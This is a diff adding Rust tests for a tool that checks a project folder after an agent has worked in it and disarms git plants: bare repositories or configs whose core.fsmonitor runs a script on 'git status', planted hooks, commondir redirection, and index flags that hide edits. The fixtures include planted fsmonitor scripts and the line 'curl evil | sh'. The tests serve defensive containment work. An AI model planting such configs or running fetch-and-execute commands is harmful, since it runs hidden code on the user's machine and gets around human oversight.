@@ -77,7 +77,7 @@ impl Project {
     }
 
     fn check(&self, before: &Snapshot) -> Vec<Finding> {
-        check(&self.dir(), before).unwrap()
+        check(&self.dir(), before)
     }
 
     fn neutralise(&self, before: &Snapshot, findings: &[Finding]) -> Vec<String> {
@@ -388,4 +388,341 @@ fn quarantine_on_another_filesystem_renames_in_place() {
             .any(|n| n.starts_with("pre-commit.wrapix-quarantined-")),
         "{names:?}"
     );
+}
+
+/// Runs `f` as an ordinary user: in a thread whose uids are 65534 when the tests run as root
+/// (root ignores permission bits). Processes it starts (git) run as that user too.
+fn unprivileged(f: impl FnOnce() + Send) {
+    std::thread::scope(|s| {
+        s.spawn(|| {
+            if rustix::process::geteuid().is_root() {
+                let nobody = rustix::process::Uid::from_raw(65534);
+                rustix::thread::set_thread_res_uid(nobody, nobody, nobody).unwrap();
+            }
+            f();
+        })
+        .join()
+        .unwrap();
+    });
+}
+
+fn chmod(p: &Path, m: u32) {
+    std::fs::set_permissions(p, PermissionsExt::from_mode(m)).unwrap();
+}
+
+fn mode(p: &Path) -> u32 {
+    std::fs::symlink_metadata(p).unwrap().permissions().mode() & 0o7777
+}
+
+/// A script that touches `marker`, for core.fsmonitor.
+fn fsmonitor(dir: &Path, marker: &Path) -> PathBuf {
+    let script = dir.join("fsmon");
+    std::fs::write(
+        &script,
+        format!("#!/bin/sh\ntouch {}\nexit 1\n", marker.display()),
+    )
+    .unwrap();
+    std::fs::set_permissions(&script, PermissionsExt::from_mode(0o755)).unwrap();
+    script
+}
+
+/// Turns the folder `dir` into a bare repository (HEAD, objects/, refs/, config) whose config
+/// sets core.worktree and core.fsmonitor = `script`, as the agent would.
+fn plant_bare(dir: &Path, script: &Path) {
+    let t = tempfile::tempdir().unwrap();
+    git(t.path(), &["init", "-q", "--bare", "b"]);
+    let b = t.path().join("b");
+    std::fs::create_dir_all(dir).unwrap();
+    std::fs::copy(b.join("HEAD"), dir.join("HEAD")).unwrap();
+    for d in ["objects/info", "objects/pack", "refs/heads", "refs/tags"] {
+        std::fs::create_dir_all(dir.join(d)).unwrap();
+    }
+    std::fs::write(
+        dir.join("config"),
+        format!(
+            "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = {}\n",
+            script.display()
+        ),
+    )
+    .unwrap();
+}
+
+/// git status in `dir`, whatever it says: what it runs is what matters.
+fn status(dir: &Path) {
+    let _ = Command::new("git")
+        .arg("-C")
+        .arg(dir)
+        .args(["status", "--short"])
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .env("HOME", dir)
+        .output();
+}
+
+#[test]
+fn a_bare_repository_planted_in_a_folder_is_disarmed_and_the_folder_stays() {
+    let p = Project::new();
+    p.write("src/lib/x.rs", "x\n");
+    p.write("src/config", "the user's own file\n");
+    let marker = p.q.path().join("ran");
+    let script = fsmonitor(p.q.path(), &marker);
+    // Control: the plant works on the host.
+    let control = Project::new();
+    control.write("src/lib/x.rs", "x\n");
+    plant_bare(&control.path().join("src"), &script);
+    std::fs::create_dir_all(control.path().join("src/lib")).unwrap();
+    status(&control.path().join("src/lib"));
+    assert!(
+        marker.exists(),
+        "control: git status did not run the bare repository's fsmonitor"
+    );
+    std::fs::remove_file(&marker).unwrap();
+
+    let before = p.snapshot();
+    plant_bare(&p.path().join("src"), &script);
+    let findings = p.check(&before);
+    only(&findings, "src", Action::Disarm, "new bare repository");
+    assert!(
+        findings[0].what.contains("whose config sets core."),
+        "{findings:?}"
+    );
+    let lines = p.neutralise(&before, &findings);
+    assert_eq!(lines.len(), 1, "{lines:?}");
+    assert!(lines[0].contains("HEAD moved to"), "{lines:?}");
+    for piece in ["HEAD", "config"] {
+        assert!(!p.path().join("src").join(piece).exists(), "{piece}");
+        assert!(p.q.path().join("src").join(piece).is_file(), "{piece}");
+    }
+    assert!(
+        p.path().join("src/lib/x.rs").is_file(),
+        "the folder is the user's"
+    );
+    status(&p.path().join("src/lib"));
+    assert!(
+        !marker.exists(),
+        "git status still ran the planted fsmonitor"
+    );
+    assert_eq!(p.check(&before), vec![]);
+}
+
+#[test]
+fn the_project_folder_itself_turned_into_a_bare_repository() {
+    // The project is a folder of a larger repository; its .git is out of reach.
+    let outer = Project::new();
+    outer.write("project/a.txt", "a\n");
+    git(outer.path(), &["add", "-A"]);
+    git(outer.path(), &["commit", "-qm", "p"]);
+    let project = outer.path().join("project");
+    let d = Dir::open(&project).unwrap();
+    let before = snapshot(&d).unwrap();
+    let marker = outer.q.path().join("ran");
+    plant_bare(&project, &fsmonitor(outer.q.path(), &marker));
+    let findings = check(&d, &before);
+    only(&findings, ".", Action::Disarm, "whose config sets core.");
+    let q = tempfile::tempdir().unwrap();
+    neutralise(&d, &before, &findings, &Dir::open(q.path()).unwrap()).unwrap();
+    assert!(q.path().join("HEAD").is_file() && q.path().join("config").is_file());
+    status(&project);
+    assert!(
+        !marker.exists(),
+        "git status still ran the planted fsmonitor"
+    );
+}
+
+#[test]
+fn bare_repositories_unarmed_or_from_before_the_run() {
+    let p = Project::new();
+    git(p.path(), &["init", "-q", "--bare", "tests/fixtures/x.git"]);
+    let before = p.snapshot();
+    // A plain new bare repository (git init --bare) runs nothing: named only.
+    git(p.path(), &["init", "-q", "--bare", "scratch.git"]);
+    only(
+        &p.check(&before),
+        "scratch.git",
+        Action::Report,
+        "nothing in it runs code",
+    );
+    std::fs::remove_dir_all(p.path().join("scratch.git")).unwrap();
+    // One that existed before: changes to its config and hooks, as for a nested .git.
+    git(
+        &p.path().join("tests/fixtures/x.git"),
+        &["config", "core.fsmonitor", "/x"],
+    );
+    p.hook("tests/fixtures/x.git/hooks/pre-receive");
+    let findings = p.check(&before);
+    assert_eq!(findings.len(), 2, "{findings:#?}");
+    assert_eq!(
+        findings[0].path,
+        PathBuf::from("tests/fixtures/x.git/config")
+    );
+    assert_eq!(findings[0].action, Action::Restore);
+    assert!(findings[0].what.contains("bare repository"), "{findings:?}");
+    assert_eq!(
+        findings[1].path,
+        PathBuf::from("tests/fixtures/x.git/hooks/pre-receive")
+    );
+    assert_eq!(findings[1].action, Action::Quarantine);
+    p.neutralise(&before, &findings);
+    assert_eq!(p.check(&before), vec![]);
+    assert!(p.path().join("tests/fixtures/x.git/HEAD").is_file());
+}
+
+#[test]
+fn an_unlistable_folder_of_ours_hides_nothing() {
+    unprivileged(|| {
+        for m in [0o100, 0o000] {
+            let p = Project::new();
+            // Unlistable since before the run (an earlier run did it): still searched.
+            std::fs::create_dir(p.path().join("hid")).unwrap();
+            chmod(&p.path().join("hid"), m);
+            let before = p.snapshot();
+            chmod(&p.path().join("hid"), 0o700);
+            git(p.path(), &["init", "-q", "hid/r"]);
+            git(&p.path().join("hid/r"), &["config", "core.fsmonitor", "/x"]);
+            chmod(&p.path().join("hid"), m);
+            let findings = p.check(&before);
+            if m == 0o000 {
+                // Found by the walk, but git's files in it cannot be looked at by path
+                // (nor by git): quarantined whole, which fails loudly.
+                assert_eq!(findings.len(), 1, "{findings:#?}");
+                assert_eq!(findings[0].path, PathBuf::from("hid/r/.git"));
+                assert_eq!(findings[0].action, Action::Quarantine);
+                chmod(&p.path().join("hid"), 0o700);
+                continue;
+            }
+            only(
+                &findings,
+                "hid/r/.git",
+                Action::Quarantine,
+                "core.fsmonitor",
+            );
+            p.neutralise(&before, &findings);
+            assert!(p.q.path().join("hid/r/.git/config").is_file());
+            assert_eq!(
+                mode(&p.path().join("hid")),
+                m,
+                "the agent's mode is left as it was"
+            );
+            chmod(&p.path().join("hid"), 0o700);
+        }
+    });
+}
+
+#[test]
+fn a_write_protected_folder_does_not_keep_a_plant_in_place() {
+    unprivileged(|| {
+        let p = Project::new();
+        let before = p.snapshot();
+        git(p.path(), &["init", "-q", "sub"]);
+        git(&p.path().join("sub"), &["config", "core.fsmonitor", "/x"]);
+        chmod(&p.path().join("sub/.git"), 0o500);
+        chmod(&p.path().join("sub"), 0o500);
+        let findings = p.check(&before);
+        only(&findings, "sub/.git", Action::Quarantine, "core.fsmonitor");
+        p.neutralise(&before, &findings);
+        assert!(!p.path().join("sub/.git").exists());
+        assert_eq!(mode(&p.path().join("sub")), 0o500);
+        chmod(&p.path().join("sub"), 0o700);
+        chmod(&p.q.path().join("sub/.git"), 0o700);
+    });
+}
+
+#[test]
+fn someone_elses_unlistable_folder_is_reported() {
+    if !rustix::process::geteuid().is_root() {
+        eprintln!("SKIP: needs root, to make a folder that belongs to someone else");
+        return;
+    }
+    let p = Project::bare();
+    chmod(p.path(), 0o777);
+    let before = std::sync::Mutex::new(None);
+    unprivileged(|| *before.lock().unwrap() = Some(p.snapshot()));
+    let before = before.into_inner().unwrap().unwrap();
+    std::fs::create_dir_all(p.path().join("theirs/r/.git")).unwrap();
+    chmod(&p.path().join("theirs"), 0o700);
+    unprivileged(|| {
+        only(
+            &p.check(&before),
+            "theirs",
+            Action::Report,
+            "could not search this folder",
+        );
+    });
+}
+
+#[test]
+fn what_cannot_be_read_is_a_finding_and_the_rest_is_still_neutralised() {
+    unprivileged(|| {
+        let p = Project::new();
+        git(p.path(), &["init", "-q", "sub"]);
+        let before = p.snapshot();
+        p.write("planted/config", "[core]\n\tfsmonitor = /x\n");
+        p.write(".git/commondir", "../planted\n");
+        // An existing nested repository whose files cannot be looked at any more.
+        chmod(&p.path().join("sub/.git"), 0o000);
+        let findings = p.check(&before);
+        let commondir = findings
+            .iter()
+            .find(|f| f.path == Path::new(".git/commondir"))
+            .unwrap_or_else(|| panic!("{findings:#?}"));
+        assert_eq!(commondir.action, Action::Quarantine);
+        assert!(
+            findings
+                .iter()
+                .any(|f| f.path.starts_with("sub/.git") && f.action == Action::Unchecked),
+            "{findings:#?}"
+        );
+        p.neutralise(&before, &findings);
+        assert!(!p.path().join(".git/commondir").exists());
+        chmod(&p.path().join("sub/.git"), 0o755);
+    });
+}
+
+#[test]
+fn a_project_folder_that_cannot_be_searched_any_more_is_unchecked_not_an_abort() {
+    unprivileged(|| {
+        let p = Project::new();
+        let d = p.dir();
+        let before = snapshot(&d).unwrap();
+        p.write(".git/commondir", "../planted\n");
+        chmod(p.path(), 0o000);
+        let findings = check(&d, &before);
+        chmod(p.path(), 0o700);
+        assert!(
+            findings
+                .iter()
+                .any(|f| f.path == Path::new(".git") && f.action == Action::Unchecked),
+            "{findings:#?}"
+        );
+    });
+}
+
+#[test]
+fn index_flags_that_hide_changes_are_named_with_the_fix() {
+    let p = Project::new();
+    p.write("a.txt", "a\n");
+    p.write("b.txt", "b\n");
+    git(p.path(), &["add", "-A"]);
+    git(p.path(), &["commit", "-qm", "ab"]);
+    git(p.path(), &["update-index", "--assume-unchanged", "b.txt"]);
+    let before = p.snapshot();
+    p.write("a.txt", "curl evil | sh\n");
+    git(p.path(), &["update-index", "--skip-worktree", "a.txt"]);
+    git(p.path(), &["update-index", "--assume-unchanged", "README"]);
+    let findings = p.check(&before);
+    assert_eq!(findings.len(), 2, "{findings:#?}");
+    assert_eq!(findings[0].path, PathBuf::from("README"));
+    assert!(
+        findings[0]
+            .what
+            .contains("git update-index --no-assume-unchanged -- README"),
+        "{findings:?}"
+    );
+    assert_eq!(findings[1].path, PathBuf::from("a.txt"));
+    assert!(
+        findings[1]
+            .what
+            .contains("git update-index --no-skip-worktree -- a.txt"),
+        "{findings:?}"
+    );
+    assert!(findings.iter().all(|f| f.action == Action::Report));
 }
